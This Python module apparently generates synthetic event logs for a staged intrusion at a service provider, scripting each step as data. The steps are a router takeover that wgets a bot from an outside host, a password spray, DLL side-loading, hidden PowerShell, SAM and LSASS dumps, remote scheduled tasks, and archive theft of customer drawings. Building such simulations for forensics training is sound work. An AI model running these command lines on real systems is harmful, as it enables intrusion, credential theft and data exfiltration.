"""What the intruder does at the provider: the gateway, the meeting-room machine, the jump host."""

from __future__ import annotations

from base64 import b64encode

from story import fields, programs
from story.cast import (
    BOTNET,
    HOME_ROUTER,
    KUMO_AT_AOBA,
    KUMO_AT_MINATO,
    PATCH,
    RELAY,
    RELAY_NAME,
    SECRET,
    TANAKA,
    Cast,
)
from story.clock import at
from story.machine import SYSTEM, Account, Session

STAFF = [
    "a.ito",
    "b.sato",
    "c.endo",
    "d.hara",
    "e.kondo",
    "f.ono",
    "g.mori",
    "h.baba",
    "i.ueda",
    "j.noda",
    "k.oda",
    "r.tanaka",
]
NPP = "C:\\ProgramData\\NppUpdate"


def tell(cast: Cast) -> None:
    """The provider's part of the story."""
    router_implant(cast)
    password_spray(cast)
    side_load(cast)
    look_around(cast)
    to_the_jump_host(cast)
    passwords_of_the_jump_host(cast)
    desktop = on_the_jump_host(cast)
    into_aoba(cast, desktop)
    fetch_from_aoba(cast, desktop)
    into_minato(cast, desktop)


def router_implant(cast: Cast) -> None:
    """Step 1: the management page of the gateway is used to run commands."""
    edge = cast.edge
    web = 48
    shell = edge.runs("08 17:41:09", "/usr/bin/sh", "sh", "-c", "/tmp/kv-all.sh", uid=web, parent=1377)
    rivals = ("/tmp/httpd_watchdog.tar.gz", "/tmp/firewall.d", "/tmp/mips_ff")
    edge.runs("08 17:41:10", "/usr/bin/rm", "rm", "-rf", *rivals, uid=web, parent=shell)
    source = f"http://{BOTNET}:5555/x86_64/a"
    edge.runs(
        "08 17:41:12", "/usr/bin/wget", "wget", "-q", source, "-O", "/tmp/bioset4", uid=web, parent=shell
    )
    edge.runs("08 17:41:15", "/usr/bin/chmod", "chmod", "+x", "/tmp/bioset4", uid=web, parent=shell)
    edge.runs("08 17:41:15", "/tmp/bioset4", "/tmp/bioset4", "-c", f"{BOTNET}:9999", uid=web, parent=shell)
    rule = ("-t", "nat", "-I", "PREROUTING", "-p", "tcp", "--dport", "43117", "-j", "ACCEPT")
    edge.runs("08 17:41:18", "/usr/sbin/iptables", "iptables", *rule, uid=0, parent=shell)
    edge.runs("08 17:41:19", "/usr/bin/rm", "rm", "-f", "/tmp/kv-all.sh", uid=web, parent=shell)


def password_spray(cast: Cast) -> None:
    """Step 2: many names, one password, from somebody's home router; the technician's fits."""
    for index, name in enumerate(STAFF):
        minute, second = divmod(index * 38, 60)
        account = Account("KUMO", name, f"S-1-5-21-1101336348-1277238915-682003330-{1110 + index}")
        cast.jump.refuse(f"09 02:{11 + minute}:{second:02}", account, 3, HOME_ROUTER)
        cast.edge.says(
            f"09 02:{11 + minute}:{second:02}",
            "sshd",
            31000 + index,
            f"Failed password for invalid user {name} from {HOME_ROUTER} port {40112 + index} ssh2",
        )
    cast.jump.logon("09 02:24:33", TANAKA, 3, HOME_ROUTER, workstation="DESKTOP-7Q2M").end("09 02:51:02")


def side_load(cast: Cast) -> None:
    """Step 3: in office hours, on a machine that nobody minds, a genuine updater loads a false library."""
    session = cast.meeting.logon("09 05:02:11", TANAKA, 10, "10.10.1.20")
    clip = session.process("09 05:02:19", programs.RDPCLIP, "rdpclip")
    for second, name in ((40, "padre1.txt"), (41, "padre2.txt"), (44, "GUP.exe"), (47, "rund1132.exe")):
        clip.writes(f"09 05:03:{second}", f"{NPP}\\{name}")
    shell = session.process("09 05:04:02", programs.CMD, "cmd.exe")
    for second, number in ((15, 1), (17, 2)):
        line = f"certutil -decode {NPP}\\padre{number}.txt {NPP}\\padre{number}.dat"
        shell.start(f"09 05:04:{second}", programs.CERTUTIL, line).writes(
            f"09 05:04:{second}", f"{NPP}\\padre{number}.dat"
        )
    line = f"esentutl.exe /y {NPP}\\padre2.dat /d {NPP}\\libcurl.dll /o"
    shell.start("09 05:04:31", programs.ESENTUTL, line).writes("09 05:04:31", f"{NPP}\\libcurl.dll")
    updater = shell.start("09 05:05:03", programs.GUP.copied(f"{NPP}\\GUP.exe"), f"{NPP}\\GUP.exe")
    updater.loads("09 05:05:03", programs.FALSE_LIBCURL)
    key = "HKU\\S-1-5-21-1101336348-1277238915-682003330-1121\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    updater.sets("09 05:05:04", f"{key}\\Notepad++ Update", f"{NPP}\\GUP.exe")
    host = updater.start("09 05:05:05", programs.SVCHOST, programs.SVCHOST.path)
    host.pipe("09 05:05:06", "\\NamePipe_MoreWindows")
    host.asks("09 05:05:08", RELAY_NAME, RELAY)
    for minute in (5, 20, 35, 50):
        host.connects(f"09 05:{minute:02}:09", RELAY, 443)


def look_around(cast: Cast) -> None:
    """Step 4: a hidden script, and the neighbours' ports; Defender sees the script, nobody sees Defender."""
    session = cast.meeting.logon("09 07:31:40", TANAKA, 10, "10.10.1.20")
    shell = session.process("09 07:32:10", programs.CMD, "cmd.exe")
    code = b64encode("Write-Host 'inert example'".encode("utf-16-le")).decode()
    hidden = shell.start(
        "09 07:33:01", programs.POWERSHELL, f"powershell.exe -nop -w hidden -exec bypass -enc {code}"
    )
    session.script("09 07:33:03", "Write-Host 'inert example'")
    cast.meeting.log(
        at("09 07:33:05"),
        "Microsoft-Windows-Windows Defender/Operational",
        "Microsoft-Windows-Windows Defender",
        1116,
        fields.malware(
            "Behavior:Win32/SuspPowershellExec.E",
            f"behavior:_pid:{hidden.pid}",
            hidden.image,
            str(TANAKA),
            at("09 07:33:05"),
        ),
        sid="S-1-5-18",
    )
    shell.start("09 07:35:20", programs.NET, "net view /domain")
    for second, address in enumerate(("10.10.1.10", "10.10.1.20", "10.10.1.21")):
        for port in (445, 3389):
            probe = shell.start(
                f"09 07:4{second}:{port % 60:02}", programs.PROBE, f"rund1132.exe -n 1 {address} {port}"
            )
            probe.connects(f"09 07:4{second}:{port % 60:02}", address, port)


def to_the_jump_host(cast: Cast) -> None:
    """Step 5: the WMI script runs commands on the jump host with the patch service's password."""
    session = cast.meeting.logon("10 01:28:50", TANAKA, 10, "10.10.1.20")
    clip = session.process("10 01:28:58", programs.RDPCLIP, "rdpclip")
    clip.writes("10 01:29:30", "C:\\Recovery\\t.vbs")
    shell = session.process("10 01:30:00", programs.CMD, "cmd.exe")
    for number, (minute, command) in enumerate(
        ((31, "reg save hklm\\sam"), (33, "reg save hklm\\system"), (35, "csvde -f C:\\windows\\web\\k.log"))
    ):
        line = f'cscript.exe //nologo C:\\Recovery\\t.vbs /cmd 10.10.1.20 {PATCH} "{SECRET}" "{command}"'
        script = shell.start(f"10 01:{minute}:02", programs.CSCRIPT, line)
        session.credentials(f"10 01:{minute}:03", PATCH, "10.10.1.20", script)
        _answer(cast, minute, number)


def _answer(cast: Cast, minute: int, number: int) -> None:
    """What one call of the WMI script leaves on the jump host."""
    session = cast.jump.logon(
        f"10 01:{minute}:04", PATCH, 3, "10.10.2.31", workstation="KUMO-MTG02", admin=True
    )
    provider = cast.jump.wmi(f"10 01:{minute}:05")
    commands = (
        (programs.REG, "reg save hklm\\sam C:\\Windows\\Temp\\ss.dat", "C:\\Windows\\Temp\\ss.dat"),
        (programs.REG, "reg save hklm\\system C:\\Windows\\Temp\\sy.dat", "C:\\Windows\\Temp\\sy.dat"),
        (programs.CSVDE, "csvde -f C:\\windows\\web\\k.log", "C:\\Windows\\web\\k.log"),
    )
    program, line, result = commands[number]
    shell = session.process(
        f"10 01:{minute}:06",
        programs.CMD,
        f"cmd.exe /c {line} > C:\\Windows\\Temp\\wmi.dll 2>&1",
        parent=provider,
    )
    shell.writes(f"10 01:{minute}:06", "C:\\Windows\\Temp\\wmi.dll")
    shell.start(f"10 01:{minute}:07", program, line).writes(f"10 01:{minute}:08", result)
    session.share(f"10 01:{minute}:09", 5142, "WMI_SHARE", "C:\\windows\\temp")
    session.share(f"10 01:{minute}:10", 5145, "WMI_SHARE", "C:\\windows\\temp", "wmi.dll")
    session.share(f"10 01:{minute}:11", 5144, "WMI_SHARE", "C:\\windows\\temp")
    session.end(f"10 01:{minute}:15")


def passwords_of_the_jump_host(cast: Cast) -> None:
    """Step 6: a task on the jump host dumps the memory that holds the passwords of all who are logged on."""
    session = cast.meeting.logon("10 02:03:10", TANAKA, 10, "10.10.1.20")
    shell = session.process("10 02:03:40", programs.CMD, "cmd.exe")
    line = (
        f"schtasks /create /s 10.10.1.20 /u {PATCH} /p {SECRET} /tn UpdateCheck "
        "/tr C:\\PerfLogs\\update.bat /sc once /st 11:10 /ru SYSTEM"
    )
    shell.start("10 02:05:12", programs.SCHTASKS, line)
    remote = cast.jump.logon("10 02:05:13", PATCH, 3, "10.10.2.31", workstation="KUMO-MTG02", admin=True)
    remote.share("10 02:05:14", 5140, "C$", "C:\\")
    remote.share("10 02:05:15", 5145, "C$", "C:\\", "PerfLogs\\update.bat", write=True)
    cast.jump.kernel().writes("10 02:05:15", "C:\\PerfLogs\\update.bat")
    remote.task("10 02:05:16", "UpdateCheck", "C:\\PerfLogs\\update.bat")
    system = cast.jump.logon("10 02:10:00", SYSTEM, 5)
    batch = system.process("10 02:10:00", programs.CMD, 'cmd.exe /c "C:\\PerfLogs\\update.bat"')
    line = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 668 C:\\Windows\\Temp\\vmware-vhost.dmp full"
    batch.start("10 02:10:01", programs.RUNDLL32, line).writes(
        "10 02:10:02", "C:\\Windows\\Temp\\vmware-vhost.dmp"
    )


def on_the_jump_host(cast: Cast) -> Session:
    """Step 7: remote desktop on the jump host itself, and the saved sessions of the technicians' tools."""
    session = cast.jump.logon("11 03:05:20", TANAKA, 10, "10.10.2.31", admin=True)
    shell = session.process("11 03:06:10", programs.CMD, "cmd.exe")
    shell.start("11 03:06:31", programs.REG, "reg query hkcu\\software\\SimonTatham\\putty\\sessions /s")
    shell.start("11 03:06:52", programs.REG, "reg query hklm\\software\\realvnc\\vncserver")
    return session


def into_aoba(cast: Cast, desktop: Session) -> None:
    """Step 8: with the provider's own account to the first customer."""
    client = desktop.process("11 03:11:40", programs.MSTSC, "mstsc.exe /v:10.20.1.15")
    desktop.credentials("11 03:11:58", KUMO_AT_AOBA, "AOBA-HIST01", client)
    client.connects("11 03:11:59", "10.20.1.15", 3389)


def fetch_from_aoba(cast: Cast, desktop: Session) -> None:
    """Step 12: the customer's drawings are copied to the jump host and packed under a system name."""
    shell = desktop.process("13 01:14:30", programs.CMD, "cmd.exe")
    share = "\\\\10.20.1.15\\d$"
    shell.start("13 01:15:06", programs.NET, f'net use {share} "{SECRET}" /user:{KUMO_AT_AOBA}')
    shell.start("13 01:16:40", programs.ROBOCOPY, f"robocopy {share}\\Drawings C:\\PerfLogs\\k /E /R:1")
    rar = programs.RAR.copied("C:\\PerfLogs\\svchost.exe")
    desktop.process("13 01:50:02", programs.RDPCLIP, "rdpclip").writes("13 01:51:10", rar.path)
    line = f"svchost.exe a -r -hp{SECRET} -v200m C:\\PerfLogs\\dd.rar C:\\PerfLogs\\k"
    packer = shell.start("13 01:52:17", rar, line)
    for part in (1, 2):
        packer.writes(f"13 01:5{part + 2}:05", f"C:\\PerfLogs\\dd.part{part}.rar")


def into_minato(cast: Cast, desktop: Session) -> None:
    """Step 13: the archive goes to the second customer's file server, with the same account there."""
    shell = desktop.process("13 02:18:00", programs.CMD, "cmd.exe")
    shell.start("13 02:18:31", programs.NET, f"net use \\\\10.30.1.20\\c$ {SECRET} /user:{KUMO_AT_MINATO}")
    bin_ = "\\\\10.30.1.20\\c$\\$Recycle.Bin"
    shell.start("13 02:20:10", programs.CMD, f"cmd.exe /c copy C:\\PerfLogs\\dd.part*.rar {bin_}")
    client = desktop.process("13 02:40:12", programs.MSTSC, "mstsc.exe /v:10.30.1.20")
    desktop.credentials("13 02:40:30", KUMO_AT_MINATO, "MINATO-FS01", client)
    client.connects("13 02:40:31", "10.30.1.20", 3389)
